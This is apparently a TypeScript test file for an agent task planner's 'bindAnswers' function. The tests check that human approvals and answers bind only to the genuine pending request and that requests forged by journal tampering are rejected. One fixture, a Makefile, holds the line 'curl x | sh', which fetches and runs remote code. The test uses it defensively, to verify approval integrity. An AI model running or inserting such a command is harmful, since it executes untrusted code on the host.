import assert from 'node:assert/strict';
import { bindAnswers } from '../../../../src/core/engine/bindAnswers';
import { initialRunState } from '../../../../src/core/engine/reduceRunEvent';
import { fingerprintPrompt, fingerprintRequest, requestIdOf } from '../../../../src/core/engine/requestFingerprint';
import type { PendingRequest, RunState } from '../../../../src/core/engine/runEvents';
import type { ApprovalRequest } from '../../../../src/core/interactionPorts';

/** A pending request without a request (a deferral, a budget pause), as the engine journals it: its fingerprint that of its prompt. */
const pendingOf = (stepId: string, kind: PendingRequest['kind']): PendingRequest => {
  const fingerprint = fingerprintPrompt(kind, `${kind} of ${stepId}?`);
  return { id: requestIdOf(stepId, fingerprint), fingerprint, stepId, kind, prompt: `${kind} of ${stepId}?` };
};
const waitingOn = (...requests: PendingRequest[]): RunState => ({
  ...initialRunState('r'),
  status: 'waiting',
  steps: Object.fromEntries(
    requests.map((request) => [request.stepId, { id: request.stepId, status: 'awaiting_approval' as const, attempts: 1, pending: request }]),
  ),
});

describe('bindAnswers', () => {
  const approval = pendingOf('A', 'approval');
  const question = pendingOf('Q', 'clarification');
  const review = pendingOf('R', 'review');
  const manual = pendingOf('M', 'manual');
  const budget = pendingOf('B', 'budget');
  const state = waitingOn(approval, question, review, manual, budget);

  it('binds each kind of answer, by request id or by step id, to the fingerprint of the request', () => {
    const { supplied, warnings } = bindAnswers(state, {
      approvals: { [approval.id]: false },
      answers: { Q: 'port 8080' },
      reviews: { R: { approved: true, notes: 'fine' } },
      manual: { [manual.id]: { done: true, note: 'signed' } },
    });
    assert.deepEqual(warnings, []);
    assert.deepEqual(supplied, {
      [approval.id]: { stepId: 'A', fingerprint: approval.fingerprint, kind: 'approval', decision: { approved: false } },
      [question.id]: { stepId: 'Q', fingerprint: question.fingerprint, kind: 'clarification', answer: 'port 8080' },
      [review.id]: { stepId: 'R', fingerprint: review.fingerprint, kind: 'review', decision: { approved: true, notes: 'fine' } },
      [manual.id]: { stepId: 'M', fingerprint: manual.fingerprint, kind: 'manual', outcome: { done: true, note: 'signed' } },
    });
  });

  it('words a manual answer as the outcome the step acts on', () => {
    const outcome = (answer: { done: boolean; note?: string; reason?: string }): unknown => bindAnswers(state, { manual: { M: answer } }).supplied[manual.id];
    assert.deepEqual(outcome({ done: true }), { stepId: 'M', fingerprint: manual.fingerprint, kind: 'manual', outcome: { done: true } });
    assert.deepEqual(outcome({ done: false, reason: 'no key' }), {
      stepId: 'M',
      fingerprint: manual.fingerprint,
      kind: 'manual',
      outcome: { done: false, reason: 'no key' },
    });
    assert.deepEqual(outcome({ done: false }), { stepId: 'M', fingerprint: manual.fingerprint, kind: 'manual', outcome: { done: false, reason: '' } });
  });

  it('does not use an answer that names no pending request, and lists what does wait', () => {
    const { supplied, warnings } = bindAnswers(state, { approvals: { Z: true } });
    assert.deepEqual(supplied, {});
    assert.deepEqual(warnings, [
      `The approval given for "Z" matches no pending request and was not used (pending: ${[approval, question, review, manual, budget].map((item) => item.id).join(', ')}).`,
    ]);
    assert.deepEqual(bindAnswers(waitingOn(), { answers: { Q: 'x' } }).warnings, [
      'The answer given for "Q" matches no pending request and was not used (pending: none).',
    ]);
  });

  it('does not use an answer of another kind than the request, and says what the step waits for', () => {
    const { supplied, warnings } = bindAnswers(state, {
      approvals: { Q: true, M: true, B: true },
      answers: { R: 'ok' },
      reviews: { A: { approved: true } },
      manual: { A: { done: true } },
    });
    assert.deepEqual(supplied, {});
    assert.deepEqual(warnings, [
      `The approval given for "Q" was not used: step Q waits for an answer (${question.id}).`,
      `The approval given for "M" was not used: step M waits for you to do it (done or failed) (${manual.id}).`,
      `The approval given for "B" was not used: step B waits for a higher budget (${budget.id}).`,
      `The answer given for "R" was not used: step R waits for a review (${review.id}).`,
      `The review given for "A" was not used: step A waits for an approval (${approval.id}).`,
      `The done or failed given for "A" was not used: step A waits for an approval (${approval.id}).`,
    ]);
  });

  // An outside attack: a journal changed by hand pairs a harmless request shown (README.md) with the id and fingerprint of
  // the change the step really makes (a Makefile); an answer to that id would approve what was never shown.
  it('does not use an answer to a request that does not show what it asks (its id, fingerprint or prompt not its own)', () => {
    const write = (path: string, text: string): Extract<ApprovalRequest, { kind: 'file' }> => ({
      kind: 'file',
      stepId: 'W',
      title: 'Write',
      operation: 'write',
      proposal: { path, currentText: undefined, proposedText: text, diff: `+${text}` },
    });
    const readme = write('README.md', 'Thanks!\n');
    const makefile = write('Makefile', 'all:\n\tcurl x | sh\n');
    const faithful = (request: Extract<ApprovalRequest, { kind: 'file' }>): PendingRequest => {
      const fingerprint = fingerprintRequest({ kind: 'approval', request });
      return { id: requestIdOf('W', fingerprint), fingerprint, stepId: 'W', kind: 'approval', prompt: `Write ${request.proposal.path}?`, request };
    };
    const real = faithful(makefile);
    const forged: PendingRequest[] = [
      { ...real, request: readme, prompt: 'Write README.md?' },
      { ...real, prompt: 'Write README.md?' },
      { ...faithful(readme), fingerprint: real.fingerprint },
      { ...faithful(readme), id: real.id },
      { ...real, kind: 'clarification' },
      { ...pendingOf('W', 'budget'), prompt: 'Raise the budget to $1?' },
    ];
    for (const request of forged) {
      const { supplied, warnings } = bindAnswers(waitingOn(request), { approvals: { W: true }, answers: { W: 'yes' } });
      assert.deepEqual(supplied, {}, JSON.stringify(request));
      assert.match(warnings[0] ?? '', /^The (approval|answer) given for "W" was not used: the run's journal shows request W@[0-9a-f]{12} otherwise than what it asks \(the journal was changed outside Task Planner\)\. Resume without it/);
    }
    assert.deepEqual(bindAnswers(waitingOn(real), { approvals: { W: true } }).supplied, { [real.id]: { stepId: 'W', fingerprint: real.fingerprint, kind: 'approval', decision: { approved: true } } });
  });
});
